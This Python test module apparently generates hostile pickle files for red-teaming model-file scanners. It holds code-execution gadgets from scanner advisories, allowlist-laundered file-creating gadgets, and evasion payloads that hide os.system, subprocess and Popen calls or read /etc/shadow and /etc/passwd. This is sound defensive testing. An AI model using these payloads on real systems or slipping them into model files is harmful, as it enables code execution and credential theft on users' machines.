"""Hostile pickles from public scanner-bypass reports, beyond the corpus' payload list.

Two families: gadgets from picklescan/ModelScan/fickling advisories (stdlib and torch callables
that run code), and gadgets that reach a file-creating callable (``numpy.memmap`` with mode
``w+``, which creates or zero-fills the canary path) only through allowlisted higher-order
helpers, so no denylisted name ever appears in the stream.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path

from tests.scan.redteam.build import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    STOP,
    TUPLE,
    Case,
    call,
    file_case,
    g,
    i,
    proto,
    pysrc,
    s,
    sg,
    shell,
    tup,
)


def _gadget(module: str, name: str, *args: str) -> bytes:
    return proto(2) + call(g(module, name), *(s(a) for a in args)) + STOP


# (id, module, name, args-builder) for plain ``module.name(*args)`` gadgets from advisories
_STDLIB: list[tuple[str, str, str, str]] = [
    ("pip_main", "pip", "main", "install"),
    ("torch_bottleneck_run_cprofile", "torch.utils.bottleneck.__main__", "run_cprofile", "SRC"),
    ("asyncio_unix_events_subprocess", "asyncio.unix_events", "_UnixSelectorEventLoop", "CMD"),
    ("idlelib_pyshell_runcode", "idlelib.pyshell", "ModifiedInterpreter.runcode", "SRC"),
    ("lib2to3_pgen_driver", "lib2to3.pgen2.driver", "load_grammar", "CANARY"),
    ("io_fileio_write", "_io", "FileIO", "CANARY"),
    ("io_open", "io", "open", "CANARY"),
    ("numpy_f2py_myeval", "numpy.f2py.crackfortran", "myeval", "SRC"),
    ("numpy_f2py_run_main", "numpy.f2py.f2py2e", "run_main", "CANARY"),
    ("pydoc_pipepager", "pydoc", "pipepager", "CMD"),
    ("pydoc_pager_tempfile", "pydoc", "tempfilepager", "CMD"),
    ("timeit_timer", "timeit", "Timer", "SRC"),
    ("doctest_debug_script", "doctest", "debug_script", "SRC"),
    ("bdb_run", "bdb", "Bdb.run", "SRC"),
    ("trace_run", "trace", "Trace.run", "SRC"),
    ("inductor_compile_file", "torch._inductor.codecache", "compile_file", "CANARY"),
    ("inductor_pycodecache_load", "torch._inductor.codecache", "PyCodeCache.load", "SRC"),
    ("fx_exec_with_source", "torch.fx.graph_module", "_exec_with_source", "SRC"),
    ("fx_reduce_graph_module", "torch.fx.graph_module", "reduce_graph_module", "SRC"),
    ("fx_symbolic_shapes_eval", "torch.fx.experimental.symbolic_shapes",
     "ShapeEnv.evaluate_guards_expression", "SRC"),
    ("jit_unsupported_exec_wrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", "SRC"),
    ("torch_serialization_load", "torch.serialization", "load", "CANARY"),
    ("torch_package_importer", "torch.package", "PackageImporter", "CANARY"),
    ("torch_utils_cpp_extension", "torch.utils.cpp_extension", "load_inline", "SRC"),
    ("numpy_load_pickle", "numpy", "load", "CANARY"),
    ("numpy_lib_npyio_load", "numpy.lib._npyio_impl", "load", "CANARY"),
    ("keras_get_file", "keras.utils", "get_file", "CANARY"),
    ("jinja2_template", "jinja2", "Template", "SRC"),
    ("os_posix_spawn", "os", "posix_spawn", "CMD"),
    ("os_execvp", "os", "execvp", "CMD"),
    ("posix_spawnp", "posix", "posix_spawnp", "CMD"),
    ("sys_modules_getitem", "sys", "modules.__getitem__", "os"),
    ("pickle_pure_python_loads", "pickle", "_loads", "CANARY"),
    ("cpickle_unpickler", "_pickle", "Unpickler", "CANARY"),
    ("commands_getoutput_py2", "commands", "getoutput", "CMD"),
    ("setuptools_sandbox_run", "setuptools.sandbox", "run_setup", "CANARY"),
    ("venv_create", "venv", "create", "CANARY"),
    ("logging_config_listen", "logging.config", "listen", "CANARY"),
    ("ctypes_util_find_library", "ctypes.util", "find_library", "CMD"),
    ("pandas_eval", "pandas", "eval", "SRC"),
    ("pandas_read_pickle", "pandas", "read_pickle", "CANARY"),
    ("pandas_io_pickle", "pandas.io.pickle", "read_pickle", "CANARY"),
    ("scipy_weave", "scipy.weave", "inline", "SRC"),
    ("typing_get_type_hints_eval", "typing", "_eval_type", "SRC"),
    ("ast_literal_eval_proxy", "builtins", "breakpoint", "SRC"),
    ("code_compile_command", "codeop", "compile_command", "SRC"),
    ("rlcompleter_complete", "rlcompleter", "Completer.complete", "SRC"),
    ("unittest_mock_patch", "unittest.mock", "_importer", "os"),
    ("zipimport_importer", "zipimport", "zipimporter", "CANARY"),
    ("sqlite3_connect", "sqlite3", "connect", "CANARY"),
    ("shelve_open", "shelve", "open", "CANARY"),
    ("tempfile_mkdtemp", "tempfile", "mkdtemp", "CANARY"),
    ("glob_glob", "glob", "glob", "CANARY"),
    ("linecache_getlines", "linecache", "getlines", "CANARY"),
    ("webbrowser_get", "webbrowser", "get", "CMD"),
    ("distutils_spawn", "distutils.spawn", "spawn", "CMD"),
    ("numexpr_evaluate", "numexpr", "evaluate", "SRC"),
    ("dask_compute", "dask", "compute", "SRC"),
    ("sympy_sympify", "sympy", "sympify", "SRC"),
    ("cloudpickle_loads", "cloudpickle", "loads", "CANARY"),
    ("dill_loads", "dill", "loads", "CANARY"),
]


def _arg(kind: str, canary: Path) -> str:
    return {"SRC": pysrc(canary), "CMD": shell(canary), "CANARY": str(canary)}.get(kind, kind)


def _stdlib_cases() -> list[Case]:
    out = []
    for id_, module, name, kind in _STDLIB:
        def data(canary: Path, module: str = module, name: str = name, kind: str = kind) -> bytes:
            if "." in name:  # a method: STACK_GLOBAL with a dotted name, protocol 4
                return (proto(4) + call(sg(module, name), s(_arg(kind, canary))) + STOP)
            return _gadget(module, name, _arg(kind, canary))
        out.append(file_case(f"pickle-{id_}", "malicious", f"{module}.{name}", f"{id_}.pkl",
                             data))
    return out


def _memmap_args(canary: Path) -> list[bytes]:
    """Positional arguments of ``numpy.memmap(filename, dtype, mode, offset, shape)`` that create
    (or zero-fill) ``canary``."""
    return [s(str(canary)), s("uint8"), s("w+"), i(0), tup(i(8))]


def _higher_order(canary: Path) -> dict[str, tuple[str, bytes]]:
    """Allowlisted helpers that call an argument: each ends up calling ``numpy.memmap(…, 'w+')``."""
    mm = g("numpy", "memmap")
    args = _memmap_args(canary)
    return {
        "memmap_reduce": ("numpy.memmap(path, mode='w+') called directly (REDUCE)",
                          proto(2) + call(mm, *args) + STOP),
        "memmap_newobj": ("NEWOBJ of numpy.memmap: memmap.__new__ creates the file",
                          proto(2) + mm + tup(*args) + NEWOBJ + STOP),
        "memmap_core_alias": ("numpy._core.memmap.memmap alias called with mode w+",
                              proto(2) + call(g("numpy._core.memmap", "memmap"), *args) + STOP),
        "memmap_copyreg_newobj": ("copyreg.__newobj__(numpy.memmap, path, …, 'w+')",
                                  proto(2) + call(g("copyreg", "__newobj__"), mm, *args) + STOP),
        "memmap_copyreg_newobj_ex": (
            "copyreg.__newobj_ex__(numpy.memmap, (path,), {mode: w+, shape: (8,)})",
            proto(2) + call(g("copyreg", "__newobj_ex__"), mm, tup(s(str(canary))),
                            EMPTY_DICT + s("mode") + s("w+") + SETITEM + s("shape")
                            + tup(i(8)) + SETITEM) + STOP),
        "memmap_rebuild_from_type_v2": (
            "torch._tensor._rebuild_from_type_v2(numpy.memmap, Tensor, args, {}) calls func(*args)",
            proto(2) + call(g("torch._tensor", "_rebuild_from_type_v2"), mm, g("torch", "Tensor"),
                            tup(*args), EMPTY_DICT) + STOP),
        "memmap_rebuild_from_type": (
            "torch._tensor._rebuild_from_type(numpy.memmap, Tensor, args, {}) calls func(*args)",
            proto(2) + call(g("torch._tensor", "_rebuild_from_type"), mm, g("torch", "Tensor"),
                            tup(*args), EMPTY_DICT) + STOP),
        "memmap_copyreg_reconstructor": (
            "copyreg._reconstructor(numpy.memmap, numpy.memmap, path): memmap.__new__ opens it r+",
            proto(2) + call(g("copyreg", "_reconstructor"), mm, mm, s(str(canary))) + STOP),
        "memmap_pandas_new_index": (
            "pandas.core.indexes.base._new_Index(numpy.memmap, {filename, mode: w+, shape}) calls "
            "cls.__new__(cls, **d)",
            proto(2) + call(g("pandas.core.indexes.base", "_new_Index"), mm,
                            EMPTY_DICT + s("filename") + s(str(canary)) + SETITEM + s("mode")
                            + s("w+") + SETITEM + s("shape") + tup(i(8)) + SETITEM) + STOP),
        "memmap_memo_alias": (
            "numpy.memmap memoised inside a benign-looking list, fetched with GET, then called",
            proto(2) + b"]" + mm + b"q\x07" + b"a" + b"0" + b"h\x07" + tup(*args) + REDUCE + STOP),
        "memmap_partial": ("functools.partial(numpy.memmap, …)() (allowlisted partial, REDUCE)",
                           proto(2) + call(g("functools", "partial"), mm, *args) + EMPTY_TUPLE
                           + REDUCE + STOP),
        "memmap_randomstate_ctor": (
            "numpy.random._pickle.__randomstate_ctor(path, numpy.memmap) calls ctor(path)",
            proto(2) + call(g("numpy.random._pickle", "__randomstate_ctor"), s(str(canary)), mm)
            + STOP),
        "memmap_generator_ctor": (
            "numpy.random._pickle.__generator_ctor(path, numpy.memmap) calls ctor(path)",
            proto(2) + call(g("numpy.random._pickle", "__generator_ctor"), s(str(canary)), mm)
            + STOP),
        "memmap_defaultdict_partial_setstate": (
            "BUILD puts partial(numpy.memmap, mode=w+) as an OrderedDict's __setstate__; a second "
            "BUILD calls it with the path",
            proto(2) + g("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ
            + EMPTY_DICT + s("__setstate__")
            + g("functools", "partial") + tup(mm) + NEWOBJ
            + tup(mm, EMPTY_TUPLE, EMPTY_DICT + s("mode") + s("w+") + SETITEM + s("shape")
                  + tup(i(8)) + SETITEM, NONE) + BUILD
            + SETITEM + BUILD + s(str(canary)) + BUILD + STOP),
    }


def _evasion(canary: Path) -> dict[str, tuple[str, bytes]]:
    cmd = shell(canary)
    payload0 = g("os", "system") + MARK + b"S" + repr(cmd).encode() + b"\n" + TUPLE + REDUCE
    pad = "weights " * 700
    return {
        "none_pop_prefix": ("protocol-0 pickle starting with NONE POP (no PROTO header)",
                            NONE + POP + payload0 + STOP),
        "long_string_prefix": ("5.6 KB text string then POP before the payload (head looks like "
                               "text)", b"S" + repr(pad).encode() + b"\n" + POP + payload0 + STOP),
        "binunicode_prefix": ("8 KB BINUNICODE then POP: payload beyond the detection head",
                              proto(4) + s(pad + pad[:2000]) + POP + call(
                                  sg("subprocess", "getoutput"), s(cmd)) + STOP),
        "mark_prefix": ("MARK-led protocol-0 list then the payload",
                        MARK + b"l" + POP + payload0 + STOP),
        "empty_dict_prefix": ("EMPTY_DICT POP then a protocol-4 payload",
                              EMPTY_DICT + POP + proto(4) + call(sg("os", "system"), s(cmd))
                              + STOP),
        "gguf_magic_polyglot": ("starts with the GGUF magic (read as BINFLOAT), then a payload",
                                b"GGUF\x03\x00\x00\x00\x00" + POP + payload0 + STOP),
        "numpy_magic_in_string": ("\\x93NUMPY header text inside a string, then the payload",
                                  proto(2) + s("\x93NUMPY") + POP + payload0 + STOP),
        "method_via_builtins_getattr_string": (
            "getattr(getattr(builtins, 'vars')(…)) chain spelled with STACK_GLOBAL strings",
            proto(4) + call(call(sg("builtins", "getattr"), call(sg("importlib", "import_module"),
                                                                s("os")), s("system")), s(cmd))
            + STOP),
        "reduce_ex_dunder": ("builtins.object.__reduce_ex__ reached as a dotted name",
                             proto(4) + call(sg("builtins", "object.__reduce_ex__"),
                                             call(sg("builtins", "object")), i(2)) + STOP),
        "stack_global_short_binstring": (
            "STACK_GLOBAL names pushed as protocol-1 SHORT_BINSTRING (str in Python 3)",
            proto(4) + b"U\x02osU\x06system\x93" + s(cmd) + b"\x85" + REDUCE + STOP),
        "stack_global_string0": (
            "STACK_GLOBAL names pushed as protocol-0 STRING reprs",
            proto(4) + b"S'os'\nS'system'\n\x93" + s(cmd) + b"\x85" + REDUCE + STOP),
        "stack_global_binunicode8": (
            "STACK_GLOBAL names pushed as BINUNICODE8",
            proto(4) + b"\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6)
            + b"system\x93" + s(cmd) + b"\x85" + REDUCE + STOP),
        "allowlisted_class_called_with_args": (
            "transformers TrainingArguments called (REDUCE through partial with keywords), so "
            "__post_init__ runs on attacker fields (fsdp_config/deepspeed paths are opened and "
            "read, env vars set); real training_args.bin only uses NEWOBJ + BUILD",
            proto(2) + g("functools", "partial") + tup(g("transformers.training_args",
                                                         "TrainingArguments")) + NEWOBJ
            + tup(g("transformers.training_args", "TrainingArguments"), EMPTY_TUPLE,
                  EMPTY_DICT + s("output_dir") + s(str(canary)) + SETITEM + s("fsdp_config")
                  + s("/etc/shadow") + SETITEM + s("deepspeed") + s("/etc/passwd") + SETITEM,
                  NONE) + BUILD + EMPTY_TUPLE + REDUCE + STOP),
        # riding the medium verdict of a class only rebuilt by NEWOBJ + BUILD (full-model saves)
        "plain_newobj_denylisted_class": (
            "subprocess.Popen rebuilt like a saved instance (NEWOBJ, no args) with its argv state",
            proto(2) + g("subprocess", "Popen") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + s("args")
            + s(cmd) + SETITEM + BUILD + STOP),
        "plain_newobj_dunder_state": (
            "unvetted class rebuilt by NEWOBJ, BUILD sets __setstate__ to os.system",
            proto(2) + g("mylib.models", "Net") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
            + s("__setstate__") + g("os", "system") + SETITEM + BUILD + STOP),
        "plain_newobj_then_called_elsewhere": (
            "unvetted class rebuilt by NEWOBJ (medium shape) and also handed to defaultdict as "
            "its factory (called on the first missing key)",
            proto(2) + g("mylib.models", "Net") + b"q\x01" + EMPTY_TUPLE + NEWOBJ + POP
            + g("collections", "defaultdict") + tup(b"h\x01") + REDUCE + STOP),
        "plain_newobj_with_args": (
            "unvetted class through NEWOBJ with a non-empty argument tuple (cls.__new__ runs on it)",
            proto(2) + g("mylib.models", "Net") + tup(s(cmd)) + NEWOBJ + STOP),
        "copyreg_reconstructor_popen": (
            "copyreg._reconstructor(subprocess.Popen, object, argv)",
            proto(2) + call(g("copyreg", "_reconstructor"), g("subprocess", "Popen"),
                            g("builtins", "object"), s(cmd)) + STOP),
    }


_Spec = Callable[[Path], dict[str, tuple[str, bytes]]]


def pickle_cases() -> list[Case]:
    out = _stdlib_cases()
    for family, fn in (("gadget", _higher_order), ("evasion", _evasion)):
        for key, (technique, _) in fn(Path("/x")).items():
            def data(canary: Path, fn: _Spec = fn, key: str = key) -> bytes:
                return fn(canary)[key][1]
            out.append(file_case(f"pickle-{family}-{key}", "malicious", technique,
                                 f"{key}.pkl", data, GAPS.get(f"pickle-{family}-{key}")))
    return [c if c.gap or c.id not in GAPS else _with_gap(c) for c in out]


def _with_gap(case: Case) -> Case:
    return Case(case.id, case.label, case.technique, case.build, GAPS[case.id])


GAPS: dict[str, str] = {}
"""Sample id → the scanner gap it shows (filled in from measured results)."""
